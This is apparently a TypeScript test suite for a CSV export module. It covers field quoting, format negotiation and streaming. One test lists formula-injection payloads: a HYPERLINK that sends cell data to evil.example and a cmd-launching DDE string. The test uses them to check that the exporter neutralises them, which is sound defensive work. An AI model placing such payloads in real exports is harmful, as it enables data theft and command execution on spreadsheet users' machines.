import fc from 'fast-check';
import { csvLine, csvOf, csvStream, wantsCsv } from '../../src/common/csv';
import { parseCsv } from '../support/csv';

async function drain(stream: NodeJS.ReadableStream): Promise<string> {
  let text = '';
  for await (const chunk of stream) text += chunk.toString();
  return text;
}

describe('CSV export', () => {
  it('should quote only fields holding a quote, comma or line break, doubling inner quotes', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'x\ny', 'x\ry', 'x\r\ny', '', null, undefined, 12, true])).toBe(
      'plain,"a,b","say ""hi""","x\ny","x\ry","x\r\ny",,,,12,true\r\n',
    );
  });

  it('should neutralise every cell a spreadsheet would evaluate, and leave plain numbers numbers', () => {
    const evil = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+1+1',
      "-2+3+cmd|'/C calc'!A0",
      '@SUM(A1)',
      '\tx',
      '\rx',
      '\uFF1D1+1',
      '\uFF0B1',
      '\uFF0D1',
      '\uFF20x',
    ];
    const [row] = parseCsv(csvLine(evil));
    expect(row).toEqual(evil.map((v) => `'${v}`));
    const plain = ['-50.25', '-7', '12.00', 'a-b', "'quoted", '1e5'];
    expect(parseCsv(csvLine(plain))).toEqual([plain]);
  });

  it('should read back any row of any strings through an independent RFC 4180 reader', () => {
    const unit = fc.constantFrom('a', 'Z', ' ', '"', ',', '\r', '\n', 'é', '₹', '\t', "'", '=', '-', '+', '@', '1');
    const text = fc.string({ unit, maxLength: 12 });
    const shown = (v: string) => (/^[=+\-@\t\r]/.test(v) && !/^-\d+(\.\d+)?$/.test(v) ? `'${v}` : v);
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(parseCsv(rows.map(csvLine).join(''))).toEqual(rows.map((r) => r.map(shown)));
      }),
      { numRuns: 500 },
    );
  });

  it('should choose CSV from ?format first, then from an Accept that names text/csv above JSON', () => {
    expect(wantsCsv('csv', undefined)).toBe(true);
    expect(wantsCsv('json', 'text/csv')).toBe(false);
    expect(wantsCsv(undefined, 'text/csv')).toBe(true);
    expect(wantsCsv(undefined, 'Text/CSV; charset=utf-8')).toBe(true);
    expect(wantsCsv(undefined, 'application/json, text/csv;q=0.5')).toBe(false);
    expect(wantsCsv(undefined, 'text/csv;q=0')).toBe(false);
    expect(wantsCsv(undefined, '*/*')).toBe(false);
    expect(wantsCsv(undefined, undefined)).toBe(false);
  });

  it('should stream every page after a header, and fail the stream (not end it) when a later page fails', async () => {
    const pages = [[1, 2], [3], [4]];
    const list = (failAt: number | null) => ({
      start: null,
      limit: 50,
      csv: csvOf<number>([
        ['n', (n) => n],
        ['half', (n) => n / 2],
      ]),
      encode: String,
      fetch: async (cursor: number | null) => {
        const i = cursor ?? 0;
        if (i === failAt) throw new Error('database went away');
        return { rows: pages[i], next: i + 1 < pages.length ? i + 1 : null };
      },
    });
    expect(await drain(await csvStream(list(null)))).toBe('n,half\r\n1,0.5\r\n2,1\r\n3,1.5\r\n4,2\r\n');
    await expect(csvStream(list(0))).rejects.toThrow('database went away'); // before the reply starts: a JSON error
    await expect(drain(await csvStream(list(2)))).rejects.toThrow('database went away');
  });
});
